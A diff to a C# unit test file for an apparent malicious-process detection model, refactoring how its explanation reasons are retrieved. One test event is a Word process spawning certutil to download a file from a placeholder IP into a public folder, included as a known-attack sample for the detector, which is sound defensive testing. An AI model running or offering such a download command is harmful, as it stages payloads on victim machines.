@@ -122,7 +122,7 @@ public class ShippedModelTests
     [Fact]
     public void The_first_reason_for_an_attack_speaks_for_an_attack()
     {
-        var reasons = Model.Explain(Event(Office + "WINWORD.EXE", System32 + "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt"), 5);
+        var reasons = Model.Explain(Event(Office + "WINWORD.EXE", System32 + "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt")).Reasons(5);
 
         Assert.Equal(5, reasons.Count);
         Assert.True(reasons[0].Weight > 0, string.Join("; ", reasons));
@@ -156,7 +156,7 @@ public class ShippedModelTests
 
         var prediction = Model.Predict(e);
 
-        Assert.True(prediction.IsMalicious == expected, $"{prediction.Probability:0.0000} at threshold {Model.Identity.Threshold:0.0000}: {string.Join("; ", Model.Explain(e, 8).Select(r => $"{r.Feature} {r.Weight:+0.00;-0.00}"))}");
+        Assert.True(prediction.IsMalicious == expected, $"{prediction.Probability:0.0000} at threshold {Model.Identity.Threshold:0.0000}: {string.Join("; ", Model.Explain(e).Reasons(8).Select(r => $"{r.Feature} {r.Weight:+0.00;-0.00}"))}");
     }
 
     private static ProcessEvent Event(string parent, string child, string commandLine)
